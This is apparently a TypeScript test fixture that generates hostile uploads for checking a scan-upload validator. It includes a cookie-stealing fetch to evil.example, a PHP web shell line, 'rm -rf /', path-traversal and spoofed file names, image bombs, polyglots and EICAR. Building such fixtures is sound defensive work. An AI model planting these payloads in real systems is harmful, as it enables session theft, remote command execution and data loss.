import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { eicar } from '../clamd.js';
import { goodFiles, type HostileFile, type SentFile } from './good-files.js';
import { hostilePdfs } from './hostile-pdfs.js';

const claims = {
  jpeg: { name: 'scan.jpg', declaredType: 'image/jpeg' },
  png: { name: 'scan.png', declaredType: 'image/png' },
  heic: { name: 'scan.heic', declaredType: 'image/heic' },
  pdf: { name: 'scan.pdf', declaredType: 'application/pdf' },
};
type Kind = keyof typeof claims;
const kinds = Object.keys(claims) as Kind[];

const payloads = {
  html: '<!doctype html><script>alert(1)</script>',
  js: '/*PAYLOAD*/=1;fetch("//evil.example/"+document.cookie)',
  php: '<?php system($_GET["c"]); ?>',
  svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  zip: 'PK\x03\x04\x14\0\0\0\0\0payload.exePK\x05\x06\0\0\0\0\x01\0\x01\0',
  exe: 'MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode',
  gif: 'GIF89a/*payload*/=1;alert(1)//',
  shell: '#!/bin/sh\nrm -rf /',
};

export async function hostileFiles(): Promise<Record<string, HostileFile[]>> {
  const good = await goodFiles();
  return {
    'that are something else': await somethingElse(good),
    'whose name or type lies': liars(good),
    'that are cut off': kinds.flatMap((kind) =>
      [0, 4, 0.1, 0.4, 0.7, 0.9].map((part) => {
        const { content } = good[kind];
        return {
          ...claims[kind],
          what: `${kind} cut at ${part}`,
          content: content.subarray(0, part < 1 ? content.length * part : part),
        };
      }),
    ),
    'that are too large': await bombs(good),
    'that are two things at once': polyglots(good),
    'that are PDFs with something inside': await hostilePdfs(),
    'that a malware scanner knows': [
      { ...claims.jpeg, what: 'EICAR after a photo', content: Buffer.concat([good.jpeg.content, Buffer.from(eicar)]) },
      { ...claims.png, what: 'EICAR after a PNG', content: Buffer.concat([good.png.content, Buffer.from(eicar)]) },
      { ...claims.heic, what: 'EICAR after a HEIC', content: Buffer.concat([good.heic.content, Buffer.from(eicar)]) },
      { ...claims.pdf, what: 'EICAR in a PDF', content: intoPdf(good.pdf.content, eicar) },
      { ...claims.pdf, what: 'EICAR itself', content: Buffer.from(eicar) },
    ],
  };
}

async function somethingElse(good: Record<Kind, SentFile>): Promise<HostileFile[]> {
  const pixels = sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } });
  const others: Record<string, Buffer> = {
    ...Object.fromEntries(Object.entries(payloads).map(([name, text]) => [name, Buffer.from(text, 'latin1')])),
    webp: await pixels.clone().webp().toBuffer(),
    tiff: await pixels.clone().tiff().toBuffer(),
    avif: await pixels.clone().avif().toBuffer(),
    movie: Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom\0\0\0\x08mdat', 'latin1'),
    elf: Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
    noise: Buffer.from('\x01\x02\x03\x04'.repeat(100), 'latin1'),
    ...Object.fromEntries(kinds.map((kind) => [kind, good[kind].content])),
  };
  return Object.entries(others).flatMap(([name, content]) =>
    kinds.flatMap((kind) => (kind === name ? [] : [{ ...claims[kind], what: `${name} as ${kind}`, content }])),
  );
}

const badNames = `
  scan|scan.|.jpg.exe|scan.jpg.exe|scan.pdf.js|scan.exe|scan.svg|scan.html|scan.htm|scan.php|scan.gif|scan.webp|scan.tiff|scan.avif
  |../../x|..\\..\\x|/etc/passwd|scan.jpg/|scan.jpg:stream|scan.jpg%00.html|CON|.
  |scan.jpg\0.exe|scan\u202Egpj.exe|scan.jp\u200Bg`
  .split('|')
  .map((name) => name.trim())
  .concat('scan.jpg ', 'scan.jpg.', '');
const badTypes = ['text/html', 'image/svg+xml', 'application/javascript', '', 'image/*', 'image/gif', 'multipart/form-data'];

function liars(good: Record<Kind, SentFile>): HostileFile[] {
  return kinds.flatMap((kind) => {
    const { content } = good[kind];
    const others = kinds.filter((other) => other !== kind).map((other) => claims[other]);
    return [
      ...[...badNames, ...others.map(({ name }) => name)].map((name) => ({
        ...claims[kind],
        name,
        content,
        what: `${kind} named ${name}`,
      })),
      ...[...badTypes, ...others.map((other) => other.declaredType)].map((declaredType) => ({
        ...claims[kind],
        declaredType,
        content,
        what: `${kind} declared ${declaredType}`,
      })),
    ];
  });
}

async function bombs(good: Record<Kind, SentFile>): Promise<HostileFile[]> {
  const wide = { create: { width: 8_000, height: 5_001, channels: 3, background: 'white' } } as const;
  const claimed = (content: Buffer, at: number, side: number) => {
    const copy = Buffer.from(content);
    copy.writeUInt32BE(side, at);
    copy.writeUInt32BE(side, at + 4);
    return copy;
  };
  const header = claimed(good.png.content, 16, 60_000);
  header.writeUInt32BE(crc32(header.subarray(12, 29)), 29);
  const jpeg = Buffer.from(good.jpeg.content);
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.fill(0xff, frame + 5, frame + 9);
  const heic = Buffer.from(good.heic.content);
  for (let at = heic.indexOf('ispe'); at > 0; at = heic.indexOf('ispe', at + 1)) claimed(heic, at + 8, 30_000).copy(heic);
  return [
    { ...claims.png, what: 'PNG of 40 megapixels and a line', content: await sharp(wide).png().toBuffer() },
    { ...claims.jpeg, what: 'JPEG of 40 megapixels and a line', content: await sharp(wide).jpeg().toBuffer() },
    { ...claims.png, what: 'PNG that claims 3,600 megapixels', content: header },
    { ...claims.jpeg, what: 'JPEG that claims 4,295 megapixels', content: jpeg },
    { ...claims.heic, what: 'HEIC that claims 900 megapixels', content: heic },
    ...kinds.map((kind) => ({
      ...claims[kind],
      what: `${kind} of more than 10 MiB`,
      content: Buffer.concat([good[kind].content, Buffer.alloc(10 * 1024 * 1024)]),
    })),
  ];
}

function polyglots(good: Record<Kind, SentFile>): HostileFile[] {
  return Object.entries(payloads).flatMap(([name, payload]) => {
    const bytes = Buffer.from(payload, 'latin1');
    const around = kinds.flatMap((kind) => [
      { ...claims[kind], what: `${name} before ${kind}`, content: Buffer.concat([bytes, good[kind].content]) },
      { ...claims[kind], what: `${name} after ${kind}`, content: Buffer.concat([good[kind].content, bytes]), payload },
    ]);
    const { jpeg, png, pdf } = good;
    return [
      ...around,
      { ...claims.jpeg, what: `${name} in a JPEG's comment`, content: segment(jpeg.content, 0xfe, bytes), payload },
      {
        ...claims.jpeg,
        what: `${name} in EXIF`,
        content: segment(jpeg.content, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), bytes])),
        payload,
      },
      { ...claims.png, what: `${name} in a PNG's text`, content: textChunk(png.content, bytes), payload },
      { ...claims.pdf, what: `${name} between a PDF's objects`, content: intoPdf(pdf.content, payload), payload },
    ];
  });
}

const segment = (jpeg: Buffer, marker: number, content: Buffer) =>
  Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker, 0, content.length + 2]), content, jpeg.subarray(2)]);

function textChunk(png: Buffer, text: Buffer): Buffer {
  const content = Buffer.concat([Buffer.from('tEXtComment\0'), text]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length - 4);
  check.writeUInt32BE(crc32(content));
  return Buffer.concat([png.subarray(0, 33), length, content, check, png.subarray(33)]);
}

/** As a comment behind the header. */
function intoPdf(pdf: Buffer, text: string): Buffer {
  const at = pdf.indexOf('\n') + 1;
  return Buffer.concat([pdf.subarray(0, at), Buffer.from(`%${text.replace(/[\r\n]/g, ' ')}\n`, 'latin1'), pdf.subarray(at)]);
}
